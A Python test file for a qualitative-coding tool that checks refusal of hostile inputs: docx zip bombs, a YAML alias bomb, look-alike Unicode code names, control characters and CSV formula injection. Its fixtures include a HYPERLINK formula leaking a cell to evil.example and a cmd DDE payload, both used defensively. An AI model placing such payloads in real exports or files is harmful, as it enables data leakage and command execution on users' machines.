"""Hostile files and output (issue 14: items 1, 2, 6, 8 and the file parts of 10).

Zip bombs in .docx, a slow upload that must not stall the server, the reader's memory and time bounds,
YAML alias bombs and oversized codebook fields, look-alike code names, CSV formula injection, mixed
encodings, control characters, and a 1 GB file on the command line. Every hostile file is made here,
small: bombs declare huge sizes or compress zeros, and are refused by their directory before unpacking.
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import json
import resource
import time
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from xml.sax.saxutils import escape

import docx
import httpx
import pytest
import yaml
from typer.testing import CliRunner

from groundcode.app import open_groundcode
from groundcode.bounded import BoundExceededError, ParseBounds, run_bounded
from groundcode.cli import app as cli
from groundcode.codebook_io import CodebookFormatError, CodebookLimits, parse_codebook
from groundcode.domain import Code, SegmentUnit
from groundcode.interchange.codebook import qdc_from_codes
from groundcode.interchange.refiqda import write_codebook
from groundcode.settings import Settings
from services.adjudication.api import create_app as create_adjudication_app
from services.analysis.exports import Table, csv_text
from services.chunking.api import create_app as create_chunking_app
from services.chunking.errors import UnreadableFileError
from services.chunking.ingest import ReadOptions, chunk_source, import_file
from services.chunking.readers import read_document
from services.chunking.segmenter import ChunkOptions
from tests.live_server import api_token, serve_in_thread

MB = 1 << 20
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def read(filename: str, data: bytes) -> str:
    """The text read_document extracts (a hostile file raises UnreadableFileError instead)."""
    return read_document(filename, data, max_bytes=50 * MB).text


# --- .docx zip bombs ----------------------------------------------------------------------


def document_xml(paragraphs: list[str]) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{escape(text)}</w:t></w:r></w:p>" for text in paragraphs)
    return f"<w:document {WORD}><w:body>{body}</w:body></w:document>".encode()


def docx_file(body: bytes, declared: Sequence[tuple[str, int, int]] = (), extra_members: int = 0) -> bytes:
    """A real .docx (python-docx's template) with ``body`` as word/document.xml, plus members that declare
    (unpacked, packed) sizes they do not have, plus ``extra_members`` empty members."""
    template = io.BytesIO()
    docx.Document().save(template)
    out = io.BytesIO()
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = body if info.filename == "word/document.xml" else source.read(info)
            target.writestr(info.filename, data)
        for index in range(extra_members):
            target.writestr(f"word/media/empty{index}.bin", b"")
        for name, unpacked, packed in declared:
            target.writestr(name, b"x")
            info = target.getinfo(name)
            info.file_size, info.compress_size = unpacked, packed  # written so in the central directory
    return out.getvalue()


def test_a_docx_that_unpacks_a_thousand_times_larger_is_refused_as_a_zip_bomb() -> None:
    bomb = docx_file(document_xml(["a" * (5 * MB)]))
    assert len(bomb) < 100_000
    with pytest.raises(UnreadableFileError, match=r"^bomb\.docx: .*times larger .* zip bomb"):
        read("bomb.docx", bomb)


@pytest.mark.parametrize(
    ("declared", "extra_members", "problem"),
    [
        pytest.param([], 2_001, r"members, more than the limit of 2000", id="member count"),
        pytest.param(
            [("word/media/big.bin", 100 * MB, 90 * MB)], 0, r"unpack to 104857600 bytes", id="member size"
        ),
        pytest.param(
            [(f"word/media/{n}.bin", 60 * MB, 55 * MB) for n in range(5)],
            0,
            r"archive would unpack to \d+ bytes",
            id="total size",
        ),
        pytest.param([("word/media/zeros.bin", 2 * MB, 1_000)], 0, r"times larger", id="ratio"),
    ],
)
def test_docx_archive_limits_are_checked_before_unpacking(
    declared: list[tuple[str, int, int]], extra_members: int, problem: str
) -> None:
    hostile = docx_file(document_xml(["Interviewer: Hello."]), declared, extra_members)
    with pytest.raises(UnreadableFileError, match=rf"^interview\.docx: .*{problem}"):
        read("interview.docx", hostile)


def test_a_genuine_docx_still_reads() -> None:
    assert (
        read("interview.docx", docx_file(document_xml(["P1: Budgets were cut."]))) == "P1: Budgets were cut."
    )


# --- parsing off the event loop, in a bounded process -------------------------------------


@pytest.fixture
def chunking_client(sqlite_url: str, tmp_path: Path) -> Iterator[httpx.Client]:
    settings = Settings(data_dir=tmp_path / "data", database_url=sqlite_url)
    # model_copy: a tight bound for the test without validating a field name (fails as a stall, not a typo).
    settings = settings.model_copy(update={"parse_timeout_seconds": 1.5})
    with (
        serve_in_thread(create_chunking_app(settings)) as base_url,
        httpx.Client(base_url=base_url, timeout=60, headers=api_token(settings)) as client,
    ):
        yield client


def test_health_keeps_answering_while_a_hostile_upload_is_parsed(chunking_client: httpx.Client) -> None:
    # Small (well within every archive limit) but slow: reading 60,000 paragraphs takes seconds.
    slow = docx_file(document_xml([f"P{n % 50}: answer {n}" for n in range(60_000)]))
    warm_up = chunking_client.post("/projects/study/sources", files=[("files", ("a.txt", b"P1: Hello."))])
    assert warm_up.json()["results"][0]["created"], warm_up.text
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        upload = pool.submit(
            chunking_client.post, "/projects/study/sources", files=[("files", ("slow.docx", slow))]
        )
        latencies = []
        while not upload.done():
            started = time.monotonic()
            assert chunking_client.get("/health", timeout=10).status_code == 200
            latencies.append(time.monotonic() - started)
            time.sleep(0.05)
        response = upload.result()
    assert len(latencies) >= 5 and max(latencies) < 2.0, latencies  # on the loop: a 3+ s stall
    (result,) = response.json()["results"]
    assert result["source_id"] is None
    assert result["error"].startswith("slow.docx: reading it took longer than 1.5 s"), result


def test_the_reader_process_has_a_memory_bound() -> None:
    bounds = ParseBounds(memory_bytes=512 * MB, seconds=30)
    with pytest.raises(BoundExceededError, match=r"^huge\.pdf: reading it needs more than 512 MB of memory"):
        run_bounded(bounds, "huge.pdf", bytearray, 4 << 30)
    assert run_bounded(bounds, "small.pdf", bytearray, 3) == bytearray(3)


def test_the_reader_process_has_a_time_bound() -> None:
    started = time.monotonic()
    with pytest.raises(BoundExceededError, match=r"^endless\.pdf: reading it took longer than 0\.5 s"):
        run_bounded(ParseBounds(memory_bytes=512 * MB, seconds=0.5), "endless.pdf", time.sleep, 30)
    assert time.monotonic() - started < 10


# --- the command line ---------------------------------------------------------------------


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("GROUNDCODE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("DATABASE_URL", raising=False)
    return tmp_path / "data"


def run_cli(*arguments: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(arguments))
    return result.exit_code, result.output


def test_cli_import_refuses_a_docx_zip_bomb(data_dir: Path, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.docx"
    bomb.write_bytes(docx_file(document_xml(["a" * (5 * MB)])))
    code, output = run_cli("import", "-p", "study", str(bomb), "--no-wait")
    assert code == 1 and "zip bomb" in output and "bomb.docx" in output, output


def test_cli_refuses_a_1_gb_file_without_reading_it_into_memory(data_dir: Path, tmp_path: Path) -> None:
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as file:
        file.truncate(1 << 30)  # sparse: costs no disk
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    code, output = run_cli("import", "-p", "study", str(huge), "--no-wait")
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert code == 1 and "huge.txt" in output and "import limit" in output, output
    assert grown_mb < 200, f"peak memory grew by {grown_mb:.0f} MB"


# --- codebooks: alias bombs, sizes, look-alike names ---------------------------------------

ALIAS_BOMB = """\
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
codes:
  - name: Bomb
    examples: [*f]
"""


def test_a_yaml_alias_bomb_is_refused_before_it_expands() -> None:
    assert len(ALIAS_BOMB) < 600
    with pytest.raises(CodebookFormatError, match=r"^bomb\.yaml: more than 20 YAML aliases"):
        parse_codebook("bomb.yaml", ALIAS_BOMB, namespace="p")


def test_a_few_aliases_are_fine_but_nested_lists_in_fields_are_not() -> None:
    shared = "shared: &x Applies to public bodies only.\ncodes:\n"
    fine = shared + "  - {name: A, exclusion: *x}\n  - {name: B, exclusion: *x}\n"
    assert [code.exclusion for code in parse_codebook("ok.yaml", fine, namespace="p")] == [
        "Applies to public bodies only."
    ] * 2
    nested = "codes:\n  - name: A\n    examples: [[one, two], three]\n"
    with pytest.raises(CodebookFormatError, match=r"codes\[1\]\.examples must be text or a list of texts"):
        parse_codebook("nested.yaml", nested, namespace="p")


def test_a_codebook_whose_children_alias_their_parent_is_refused() -> None:
    recursive = "codes:\n  - &loop\n    name: Loop\n    children: [*loop]\n"
    with pytest.raises(CodebookFormatError, match="nested more than 20 levels"):
        parse_codebook("loop.yaml", recursive, namespace="p")


def codebook_file(suffix: str, codes: list[dict[str, object]]) -> str:
    """The same codes written as a YAML, JSON, CSV or REFI-QDA (.qdc) codebook."""
    if suffix == ".yaml":
        return yaml.safe_dump({"codes": codes}, allow_unicode=True)
    if suffix == ".json":
        return json.dumps({"codes": codes})
    if suffix == ".csv":
        out = io.StringIO()
        writer = csv.DictWriter(out, ["name", "definition", "inclusion", "exclusion", "examples"])
        writer.writeheader()
        for code in codes:
            examples = code.get("examples", [])
            assert isinstance(examples, list)
            writer.writerow({**code, "examples": "|".join(examples)})
        return out.getvalue()
    models = [Code(name=str(code["name"]), definition=str(code.get("definition", ""))) for code in codes]
    return write_codebook(qdc_from_codes(models, "test", "p")).decode("utf-8")


LONG = "x" * 10_001
OVERSIZED = {
    "name": ([{"name": "n" * 201}], r"the name is 201 characters, more than the limit of 200"),
    "definition": (
        [{"name": "Trust", "definition": LONG}],
        r"code 'Trust': the definition is 10001 characters",
    ),
    "inclusion": ([{"name": "Trust", "inclusion": LONG}], r"code 'Trust': the inclusion is 10001 characters"),
    "exclusion": ([{"name": "Trust", "exclusion": LONG}], r"code 'Trust': the exclusion is 10001 characters"),
    "example": ([{"name": "Trust", "examples": ["ok", "e" * 2_001]}], r"code 'Trust': the example 2 is 2001"),
    "examples": (
        [{"name": "Trust", "examples": ["e"] * 101}],
        r"code 'Trust': 101 examples, more than .* 100",
    ),
    "codes": (
        [{"name": f"code {n}"} for n in range(11)],
        r"more than the limit of 10 codes|11 codes, more",
    ),
}
CASES = [
    pytest.param(suffix, field, id=f"{suffix[1:]}-{field}")
    for suffix in (".yaml", ".json", ".csv", ".qdc")
    for field in OVERSIZED
    if suffix != ".qdc" or field in ("name", "definition", "codes")  # what REFI-QDA codebooks carry
]


@pytest.mark.parametrize(("suffix", "field"), CASES)
def test_codebook_fields_over_their_size_limit_are_refused(suffix: str, field: str) -> None:
    codes, problem = OVERSIZED[field]
    limits = CodebookLimits(max_codes=10)  # the default (5000) would only make the test slow
    with pytest.raises(CodebookFormatError, match=rf"^codebook{suffix}: .*({problem})"):
        parse_codebook(f"codebook{suffix}", codebook_file(suffix, codes), namespace="p", limits=limits)


@pytest.mark.parametrize("suffix", [".yaml", ".json", ".csv", ".qdc"])
@pytest.mark.parametrize(
    "twin",
    [
        pytest.param("Tr\u200bust", id="zero-width space"),
        pytest.param("\u202dTrust\u202c", id="bidi override"),
        pytest.param("Trus\u0074\u2060", id="word joiner"),
    ],
)
def test_codes_that_look_the_same_cannot_both_exist(suffix: str, twin: str) -> None:
    text = codebook_file(suffix, [{"name": "Trust"}, {"name": twin}])
    with pytest.raises(CodebookFormatError, match=r"codes 'Trust' and '.*' look the same"):
        parse_codebook(f"codebook{suffix}", text, namespace="p")


def test_composed_and_decomposed_names_are_the_same_code_but_persian_half_spaces_stay_legal() -> None:
    with pytest.raises(CodebookFormatError, match="look the same"):
        parse_codebook("c.yaml", 'codes: [Café, "Cafe\u0301"]\n', namespace="p")
    [code] = parse_codebook("c.yaml", "codes: [مصاحبه‌گر]\n", namespace="p")
    assert code.name == "مصاحبه\u200cگر"


def test_a_refused_codebook_stores_nothing(data_dir: Path, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(ALIAS_BOMB, encoding="utf-8")
    code, output = run_cli("import", "-p", "study", "--codebook", str(bomb), "--no-wait")
    assert code == 1 and "YAML aliases" in output, output
    groundcode = open_groundcode(Settings())
    try:
        project = groundcode.repository.ensure_project("study")
        assert groundcode.repository.latest_codebook(project.id) is None
    finally:
        groundcode.close()


# --- CSV formula injection ----------------------------------------------------------------

FORMULA_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULA_CODE = "+cmd|' /C calc'!A0"


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote() -> None:
    hostile = ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", "", "-"]
    text = csv_text(Table(title="t", headers=["@header", "n"], rows=[[cell, -5] for cell in hostile]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["'@header", "n"]
    assert [row[0] for row in rows[1:]] == [
        "'=1+1", "'+1", "'-1+cmd", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b", "", "'-"
    ]  # fmt: skip
    assert {row[1] for row in rows[1:]} == {"-5"}  # numbers stay numbers


@pytest.fixture
def coded_study(sqlite_url: str, tmp_path: Path) -> Iterator[tuple[Settings, httpx.Client]]:
    """A project whose only coding has a formula as its text and its code's name; the owner's client."""
    settings = Settings(data_dir=tmp_path / "data", database_url=sqlite_url)
    groundcode = open_groundcode(settings)
    try:
        project = groundcode.repository.ensure_project("study")
        options, read_options = ChunkOptions(unit=SegmentUnit.PARAGRAPH), ReadOptions(max_bytes=MB)
        result = import_file(
            groundcode.repository, project.id, "i.txt", FORMULA_TEXT.encode(), options, read_options
        )
        assert result.source_id, result.error
        chunk_source(groundcode.repository, result.source_id)
        [segment] = groundcode.repository.list_segments(result.source_id)
        codebook, _ = groundcode.repository.save_codebook(project.id, "cb", [Code(name=FORMULA_CODE)])
    finally:
        groundcode.close()
    headers = api_token(settings, "olga", projects=["study"])
    app = create_adjudication_app(settings, run_workers=False)
    with serve_in_thread(app) as base_url, httpx.Client(base_url=base_url, headers=headers) as client:
        body = {
            "action": "code",
            "segment_id": segment.id,
            "code_id": codebook.codes[0].id,
            "start": segment.start,
            "end": segment.end,
            "version": 0,
        }
        assert client.post("/projects/study/decisions", json=body).is_success
        yield settings, client


def assert_neutralised(csv_body: str) -> None:
    [row] = list(csv.DictReader(io.StringIO(csv_body.removeprefix("\ufeff"))))
    assert row["text"] == "'" + FORMULA_TEXT and row["code"] == "'" + FORMULA_CODE, row


def test_codings_csv_over_http_has_no_formulas(coded_study: tuple[Settings, httpx.Client]) -> None:
    _settings, client = coded_study
    assert_neutralised(client.get("/projects/study/codings.csv").text)


def test_codings_csv_from_the_cli_has_no_formulas(
    coded_study: tuple[Settings, httpx.Client], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings, _client = coded_study
    monkeypatch.setenv("GROUNDCODE_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("DATABASE_URL", settings.resolved_database_url())
    out = tmp_path / "codings.csv"
    code, output = run_cli("export", "codings", "-p", "study", "--format", "csv", "--out", str(out))
    assert code == 0, output
    assert_neutralised(out.read_text(encoding="utf-8"))


# --- encodings and control characters -----------------------------------------------------


def test_a_utf8_file_with_one_latin1_line_is_refused_naming_the_line() -> None:
    mixed = (
        "مصاحبه‌گر: مشکل اصلی چیست؟\n".encode()
        + "P1: Le café était fermé.\n".encode("latin-1")
        + "مصاحبه‌شونده: بودجه کم است.\n".encode()
    )
    with pytest.raises(UnreadableFileError, match=r"^mixed\.txt: line 2 is not UTF-8"):
        read("mixed.txt", mixed)


def test_single_encoding_files_still_read() -> None:
    persian = "مصاحبه‌گر: مشکل اصلی چیست؟\nمصاحبه‌شونده: بودجه کم است.\n"
    assert read("fa.txt", persian.replace("ی", "ي").encode("cp1256")) == persian.replace("ی", "ي")
    assert read("utf16.txt", persian.encode("utf-16")) == persian


@pytest.mark.parametrize(
    ("text", "line", "character"),
    [
        pytest.param("P1: fine\nP2: \x1b[31mred\n", 2, "001B", id="escape"),
        pytest.param("P1: a\x00b\n", 1, "0000", id="nul via utf-16"),
        pytest.param("P1: x\nP2: y\nP3: \x85z\n", 3, "0085", id="C1 control"),
    ],
)
def test_control_characters_are_refused_naming_the_line(text: str, line: int, character: str) -> None:
    data = text.encode("utf-16") if "\x00" in text else text.encode("utf-8")
    with pytest.raises(
        UnreadableFileError, match=rf"^t\.txt: line {line} holds the control character U\+{character}"
    ):
        read("t.txt", data)


def test_tabs_and_line_breaks_are_not_control_characters() -> None:
    assert read("t.txt", b"P1:\tyes\r\nP2: no\r") == "P1:\tyes\nP2: no\n"
